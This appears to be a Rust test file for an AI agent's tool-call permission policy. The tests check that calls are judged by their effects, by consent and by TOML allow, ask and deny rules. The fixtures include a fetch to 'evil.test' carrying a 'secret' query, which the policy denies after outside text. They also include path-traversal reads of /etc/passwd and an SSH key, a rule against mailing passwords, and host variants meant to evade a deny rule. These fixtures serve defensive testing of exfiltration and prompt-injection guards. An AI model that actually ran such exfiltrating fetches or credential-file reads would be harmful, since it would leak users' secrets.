use glm_agent_tools::{Effects, ToolContext};
use serde_json::json;

use super::*;

const NONE: Effects = Effects {
    reads: false,
    network: false,
    writes: false,
    host: false,
};
const NETWORK: Effects = Effects {
    network: true,
    ..NONE
};
const HOST: Effects = Effects { host: true, ..NONE };
const WRITES: Effects = Effects {
    writes: true,
    ..NONE
};

fn call(tool: &str, effects: Effects) -> Facts {
    Facts {
        tool: tool.into(),
        effects,
        sends: effects.network,
        ..Facts::default()
    }
}

fn fetch(address: &str) -> Facts {
    let host = Url::parse(address).unwrap().host_str().unwrap().to_owned();
    Facts {
        addresses: vec![address.into()],
        hosts: vec![host],
        arguments: json!({ "url": address }),
        ..call("web_fetch", NETWORK)
    }
}

fn judge(policy: &Policy, call: &Facts, outside: bool, consented: bool) -> Verdict {
    let mut known = Known::default();
    known.add("https://known.test/page");
    let now = Circumstances {
        outside,
        consented,
        interrupted: false,
        known: &known,
    };
    policy.judge(call, now)
}

#[test]
fn a_call_that_was_under_way_runs_again_only_if_that_does_no_harm() {
    let known = Known::default();
    let now = Circumstances {
        outside: true,
        consented: true,
        interrupted: true,
        known: &known,
    };
    let once = call("send", NETWORK);
    let again = Facts {
        idempotent: true,
        ..once.clone()
    };
    let of = |mode: Mode, call: &Facts| Policy::from(mode).judge(call, now);
    assert_eq!(of(Mode::Ask, &again), Verdict::Run(None));
    let reason = "the program ended during this call, and it may have taken effect";
    assert_eq!(of(Mode::Auto, &once), Verdict::Ask(reason.into()));
    let denied = Verdict::Deny(format!("this call was not run: {reason}"));
    assert_eq!(of(Mode::Never, &once), denied);
}

fn rules(toml: &str) -> Policy {
    #[derive(serde::Deserialize)]
    struct File {
        rules: Vec<Rule>,
    }
    let File { rules } = toml::from_str(toml).unwrap();
    Policy {
        rules,
        ..Policy::default()
    }
}

#[test]
fn each_mode_judges_by_effects_and_by_outside_text() {
    let acts =
        "it acts on this machine or elsewhere, and text from outside has entered the conversation";
    let sends =
        "it sends data to other machines, and text from outside has entered the conversation";
    let beyond = "it reaches beyond the sandbox";
    let run = || Verdict::Run(None);
    let ask = |reason: &str| Verdict::Ask(reason.to_owned());
    let deny = |reason: &str| Verdict::Deny(format!("this call was not run: {reason}"));
    for (mode, effects, inside, outside) in [
        (Mode::Auto, NONE, run(), run()),
        (Mode::Auto, NETWORK, run(), ask(sends)),
        (Mode::Auto, WRITES, run(), ask(acts)),
        (Mode::Auto, HOST, run(), ask(acts)),
        (Mode::Ask, NONE, run(), run()),
        (Mode::Ask, NETWORK, ask(beyond), ask(beyond)),
        (Mode::Ask, WRITES, ask(beyond), ask(beyond)),
        (Mode::Ask, HOST, ask(beyond), ask(beyond)),
        (Mode::Never, NONE, run(), run()),
        (Mode::Never, NETWORK, run(), deny(sends)),
        (Mode::Never, WRITES, run(), deny(acts)),
        (Mode::Never, HOST, run(), deny(acts)),
    ] {
        let (policy, call) = (Policy::from(mode), call("t", effects));
        assert_eq!(
            judge(&policy, &call, false, false),
            inside,
            "{mode:?} {effects:?}"
        );
        assert_eq!(
            judge(&policy, &call, true, false),
            outside,
            "{mode:?} {effects:?}"
        );
        assert_eq!(
            judge(&policy, &call, true, true),
            run(),
            "{mode:?} {effects:?}"
        );
    }
}

#[test]
fn an_address_that_the_model_made_up_is_refused_after_outside_text() {
    let policy = Policy::default();
    let (known, made_up) = (
        fetch("https://known.test/page"),
        fetch("https://evil.test/?q=secret"),
    );
    assert_eq!(judge(&policy, &made_up, false, false), Verdict::Run(None));
    assert_eq!(judge(&policy, &known, true, false), Verdict::Run(None));
    for consented in [false, true] {
        let verdict = judge(&policy, &made_up, true, consented);
        assert!(matches!(verdict, Verdict::Deny(_)), "{verdict:?}");
    }
    let allowing = rules("[[rules]]\naction = 'allow'\nhost = 'evil.test'");
    let by_rule = Verdict::Run(Some("the rule `allow at evil.test` allows it".into()));
    assert_eq!(judge(&allowing, &made_up, true, false), by_rule);
    // Consent to what a rule asks about is consent to the tool, not to any address.
    let asking = rules("[[rules]]\naction = 'ask'\ntool = 'web_fetch'");
    assert!(matches!(
        judge(&asking, &made_up, true, false),
        Verdict::Ask(_)
    ));
    assert_eq!(judge(&asking, &known, true, true), Verdict::Run(None));
    assert!(matches!(
        judge(&asking, &made_up, true, true),
        Verdict::Deny(_)
    ));
}

#[test]
fn the_strictest_rule_that_applies_decides() {
    let policy = rules(
        r#"
        [[rules]]
        action = "allow"
        tool = "mail__*"
        arguments = { to = "*@example.com" }
        [[rules]]
        action = "deny"
        arguments = { "message.body" = "*password*" }
        message = "no passwords by mail"
        [[rules]]
        action = "ask"
        tool = "mail__purge"
        "#,
    );
    let mail = |tool: &str, to: &str, body: &str| Facts {
        arguments: json!({"to": to, "message": {"body": body}}),
        ..call(tool, WRITES)
    };
    let verdict = |facts: &Facts| judge(&policy, facts, true, false);
    assert_eq!(
        verdict(&mail("mail__send", "dana@example.com", "hi")),
        Verdict::Run(Some(
            "the rule `allow mail__* to=*@example.com` allows it".into()
        ))
    );
    assert!(matches!(
        verdict(&mail("mail__send", "eve@evil.test", "hi")),
        Verdict::Ask(_)
    ));
    assert!(matches!(
        verdict(&mail("send", "dana@example.com", "hi")),
        Verdict::Ask(_)
    ));
    assert_eq!(
        verdict(&mail("mail__send", "dana@example.com", "my password\nis x")),
        Verdict::Deny("this call was not run: no passwords by mail".into())
    );
    assert_eq!(
        verdict(&mail("mail__purge", "dana@example.com", "hi")),
        Verdict::Ask("the rule `ask mail__purge` asks for consent".into())
    );
}

#[test]
fn a_rule_is_not_outwitted_by_dots_ports_or_case() {
    let policy = rules(
        r#"
        [[rules]]
        action = "allow"
        arguments = { path = "/home/me/project/*" }
        [[rules]]
        action = "deny"
        arguments = { path = "/etc/*" }
        [[rules]]
        action = "deny"
        host = "*.evil.test"
        "#,
    );
    let read = |path: &str| Facts {
        arguments: json!({ "path": path }),
        ..call("read", HOST)
    };
    let verdict = |facts: &Facts| judge(&policy, facts, true, false);
    assert!(matches!(
        verdict(&read("/home/me/project/a")),
        Verdict::Run(Some(_))
    ));
    assert!(matches!(
        verdict(&read("/home/me/project/./b/../a")),
        Verdict::Run(Some(_))
    ));
    assert!(matches!(
        verdict(&read("/home/me/project/../.ssh/id")),
        Verdict::Ask(_)
    ));
    assert!(matches!(
        verdict(&read("/tmp/../etc/passwd")),
        Verdict::Deny(_)
    ));
    let reach = |host: &str| Facts {
        hosts: vec![host.into()],
        ..call("t", NETWORK)
    };
    for host in ["a.evil.test", "A.Evil.test.", "a.evil.test:8080"] {
        assert!(matches!(verdict(&reach(host)), Verdict::Deny(_)), "{host}");
    }
    assert!(matches!(verdict(&reach("evil.test.org")), Verdict::Ask(_)));
}

#[test]
fn facts_come_from_the_tool() {
    let guard = glm_agent_tools::net_guard::NetGuard::from_patterns(&[]).unwrap();
    let fetch = glm_agent_tools::fetch::web_fetch(glm_agent_tools::reader::Reader::new(
        guard,
        Default::default(),
    ));
    let arguments = json!({"url": "https://Example.com:8443/x"});
    assert_eq!(
        Facts::of(Some(&fetch), "web_fetch", &arguments),
        Facts {
            tool: "web_fetch".into(),
            arguments,
            effects: NETWORK,
            addresses: vec!["https://Example.com:8443/x".into()],
            hosts: vec!["example.com".into()],
            sends: true,
            external: false,
            idempotent: true,
        }
    );
    let weather = Tool::new("w", "d", |_: Value, _: ToolContext| async { Ok("") })
        .effects(NETWORK)
        .host("api.example.com");
    assert_eq!(
        Facts::of(Some(&weather), "w", &json!({})).hosts,
        ["api.example.com"]
    );
}
